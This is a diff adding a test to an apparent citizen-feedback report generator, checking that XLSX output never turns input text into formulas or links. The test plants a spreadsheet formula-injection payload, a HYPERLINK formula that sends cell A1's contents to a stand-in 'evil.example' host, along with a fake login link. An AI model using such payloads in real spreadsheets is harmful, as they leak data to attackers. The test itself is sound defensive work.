@@ -59,3 +59,24 @@ def test_no_cell_holds_unmasked_personal_data(reported_dir):
     cells = " ".join(str(v) for ws in book for row in ws.iter_rows(values_only=True) for v in row if v)
     assert UNMASKED_PHONE not in cells
     assert UNMASKED_PHONE[:3] + "****" + UNMASKED_PHONE[-4:] in cells
+
+
+def test_citizens_text_is_never_a_formula_or_a_link(analysis_dir, tmp_path):
+    import shutil
+
+    import pandas as pd
+
+    from minsheng.reports._data import load_report_data
+    from minsheng.reports.xlsx import write_xlsx
+
+    shutil.copytree(analysis_dir, tmp_path / "a")
+    leak = '=HYPERLINK("http://evil.example/?leak="&A1,"查看原文")'
+    themes = pd.read_csv(tmp_path / "a" / "themes.csv", dtype=str, keep_default_na=False)
+    themes.loc[0, "label"], themes.loc[1, "label"] = leak, "http://evil.example/login"
+    themes.to_csv(tmp_path / "a" / "themes.csv", index=False)
+    path = write_xlsx(load_report_data(tmp_path / "a"), tmp_path / "report.xlsx")
+    book = openpyxl.load_workbook(path)
+    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert not [c.coordinate for c in cells if c.hyperlink is not None]
+    assert any(c.value == leak for c in cells)
